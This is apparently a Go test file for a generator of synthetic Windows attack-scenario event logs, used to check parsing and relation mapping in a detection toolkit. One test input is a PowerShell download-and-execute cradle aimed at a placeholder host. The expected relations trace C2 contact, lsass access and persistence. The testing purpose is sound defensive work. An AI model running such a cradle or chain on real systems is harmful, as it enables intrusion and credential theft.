package scenario_test

import (
	"bytes"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mdrkit/mdr/internal/scenario"
	"github.com/mdrkit/mdr/reader"
	"github.com/mdrkit/mdr/schema"
)

func TestEncodePowerShell(t *testing.T) {
	// "whoami" as UTF-16LE in base64, as powershell.exe -enc expects it.
	if got := scenario.EncodePowerShell("whoami"); got != "dwBoAG8AYQBtAGkA" {
		t.Errorf("EncodePowerShell(whoami) = %s", got)
	}
	for _, s := range []string{"", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "Zoë 😀 ünïcode"} {
		back, err := scenario.DecodePowerShell(scenario.EncodePowerShell(s))
		if err != nil || back != s {
			t.Errorf("round trip of %q: %q, %v", s, back, err)
		}
	}
	if _, err := scenario.DecodePowerShell("not base64!"); err == nil {
		t.Error("bad base64 accepted")
	}
	if _, err := scenario.DecodePowerShell("YWJj"); err == nil { // 3 bytes: odd UTF-16
		t.Error("odd length accepted")
	}
}

func TestDeterministic(t *testing.T) {
	var a, b, c bytes.Buffer
	if err := scenario.Generate(scenario.Config{Seed: 42}).WriteNDJSON(&a); err != nil {
		t.Fatal(err)
	}
	scenario.Generate(scenario.Config{Seed: 42}).WriteNDJSON(&b)
	scenario.Generate(scenario.Config{Seed: 43}).WriteNDJSON(&c)
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Error("same seed, different events")
	}
	if bytes.Equal(a.Bytes(), c.Bytes()) {
		t.Error("different seeds, same events")
	}
}

// TestShape checks that the generated lines look like the shared data's
// exports: flat objects, EventID and the System counters integers, every
// EventData value a string, times in the export formats, time order.
func TestShape(t *testing.T) {
	for _, seed := range []int64{0, 1, 7, 99} {
		sc := scenario.Generate(scenario.Config{Seed: seed})
		var buf bytes.Buffer
		if err := sc.WriteNDJSON(&buf); err != nil {
			t.Fatal(err)
		}
		lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
		if len(lines) != len(sc.Events) || len(lines) < 50 {
			t.Fatalf("seed %d: %d lines for %d events", seed, len(lines), len(sc.Events))
		}
		if sc.Facts.AttackEvents+sc.Facts.NoiseEvents != len(sc.Events) || sc.Facts.NoiseEvents < 10 {
			t.Errorf("seed %d: %d attack + %d noise != %d", seed, sc.Facts.AttackEvents, sc.Facts.NoiseEvents, len(sc.Events))
		}
		ints := []string{"EventID", "EventRecordID", "Version", "Level", "Task", "Opcode", "Execution_ProcessID", "Execution_ThreadID"}
		var prev time.Time
		for i, line := range lines {
			var m map[string]any
			if err := json.Unmarshal([]byte(line), &m); err != nil {
				t.Fatalf("seed %d line %d: %v", seed, i+1, err)
			}
			for k, v := range m {
				switch v.(type) {
				case float64:
					if !slices.Contains(ints, k) {
						t.Errorf("line %d: %s is a number; EventData fields are strings", i+1, k)
					}
				case string:
					if slices.Contains(ints, k) {
						t.Errorf("line %d: %s is a string; want an integer", i+1, k)
					}
				default:
					t.Errorf("line %d: %s has type %T; events are flat", i+1, k, v)
				}
			}
			for _, k := range []string{"EventID", "Channel", "Provider_Name", "Computer", "TimeCreated", "_id"} {
				if _, ok := m[k]; !ok {
					t.Errorf("line %d: no %s", i+1, k)
				}
			}
			tc, err := time.Parse("2006-01-02T15:04:05.0000000Z", m["TimeCreated"].(string))
			if err != nil {
				t.Errorf("line %d: TimeCreated %v", i+1, err)
			}
			if u, ok := m["UtcTime"].(string); ok {
				ut, err := time.Parse("2006-01-02 15:04:05.000", u)
				if err != nil || tc.Sub(ut) < 0 || tc.Sub(ut) > 10*time.Millisecond {
					t.Errorf("line %d: UtcTime %s vs TimeCreated %s", i+1, u, m["TimeCreated"])
				}
				tc = ut
			}
			if tc.Before(prev.Add(-5 * time.Millisecond)) {
				t.Errorf("seed %d line %d: time goes back (%s after %s)", seed, i+1, tc, prev)
			}
			prev = tc
		}
	}
}

// TestMapsCleanly reads the generated log back through package reader and
// maps it with package schema: no malformed line, no mapping error, every
// event of a supported kind, and the facts of the story present.
func TestMapsCleanly(t *testing.T) {
	sc := scenario.Generate(scenario.Config{Seed: 5})
	var buf bytes.Buffer
	sc.WriteNDJSON(&buf)
	r, err := reader.New(&buf, "scenario", reader.Options{})
	if err != nil {
		t.Fatal(err)
	}
	m := schema.Mapper{Processes: schema.NewProcessTable(1000)}
	var res schema.Result
	rels := map[string]bool{}
	n := 0
	for r.Next() {
		ev := r.Event()
		n++
		if err := m.Map(ev, &res); err != nil {
			t.Errorf("%v", err)
		}
		if !res.Supported || len(res.Relations) == 0 {
			t.Errorf("line %d (%s %s) yields nothing", ev.Origin().Line, res.Dialect, res.Code)
		}
		for _, x := range res.Relations {
			rels[x.Kind.String()+" "+x.From+" -> "+x.To] = true
		}
	}
	if err := r.Err(); err != nil {
		t.Fatal(err)
	}
	if n != len(sc.Events) {
		t.Fatalf("read %d of %d events", n, len(sc.Events))
	}
	f := sc.Facts
	ps, word, tool := schema.ProcessGUIDID(f.PowerShellGUID), schema.ProcessGUIDID(f.WordGUID), schema.ProcessGUIDID(f.ToolGUID)
	wks, srv := schema.HostID(f.Workstation), schema.HostID(f.Server)
	adminDom, adminName, _ := strings.Cut(f.Admin, `\`)
	for _, want := range []string{
		"spawned " + word + " -> " + ps,
		"spawned " + ps + " -> " + tool,
		"wrote_file " + ps + " -> " + schema.FileID(f.Workstation, f.Tool),
		"executed " + tool + " -> " + schema.FileID(f.Workstation, f.Tool),
		"resolved " + ps + " -> " + schema.DomainID(f.C2Domain),
		"connected " + ps + " -> " + schema.EndpointID(f.C2IP, "80"),
		"opened_process " + tool + " -> " + schema.ProcessGUIDID(f.LsassGUID),
		"set_registry " + ps + " -> " + schema.RegistryID(f.RunKey),
		"created_task " + schema.UserID("CORP", strings.TrimPrefix(f.User, `CORP\`)) + " -> " + schema.TaskID(f.Workstation, f.Task),
		"used_credentials " + ps + " -> " + schema.UserID(adminDom, adminName),
		"logged_on " + schema.UserID(adminDom, adminName) + " -> " + srv,
		"installed_service " + schema.UserID(adminDom, adminName) + " -> " + schema.ServiceID(f.Server, f.Service),
		"ran_on " + schema.ProcessGUIDID(f.ServerToolGUID) + " -> " + srv,
		"ran_on " + ps + " -> " + wks,
	} {
		if !rels[want] {
			t.Errorf("missing %q", want)
		}
	}
}
